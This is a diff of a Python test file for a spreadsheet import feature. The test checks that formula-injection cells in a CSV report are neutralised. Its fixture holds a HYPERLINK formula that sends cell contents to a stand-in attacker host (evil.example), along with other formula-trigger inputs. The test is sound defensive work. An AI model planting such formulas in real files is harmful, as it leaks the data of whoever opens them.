@@ -7,7 +7,7 @@ from decimal import Decimal
 import pytest
 
 from backend.core.spreadsheets import safe_cell, safe_row
-from conftest import new_uuid
+from conftest import finished_import, upload_import
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")'])
@@ -29,11 +29,9 @@ def test_the_import_report_neutralises_what_the_clerk_typed(app, world, login_as
     lead = login_as("lead")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     rows = "姓名,身份证号,村\n" + f'"{evil.replace(chr(34), chr(34) * 2)}",330112196203150011,@SUM(1+1)\n'
-    r = lead.post("/api/v1/subsidies/imports", form={
-        "client_uuid": new_uuid(), "kind": "beneficiaries", "region_id": str(world["regions"]["jincheng"]),
-        "file": (io.BytesIO(("\ufeff" + rows).encode()), "名册.csv")})
-    assert r.status_code == 422
-    report = lead.get(r.json["import"]["report_url"]).data.decode("utf-8").lstrip("\ufeff")
+    run = finished_import(lead, upload_import(lead, world, ("\ufeff" + rows).encode(), "名册.csv"))
+    assert run["status"] == "rejected"
+    report = lead.get(run["report_url"]).data.decode("utf-8").lstrip("\ufeff")
     cells = [c for line in csv.reader(io.StringIO(report)) for c in line]
     assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
     assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), cells
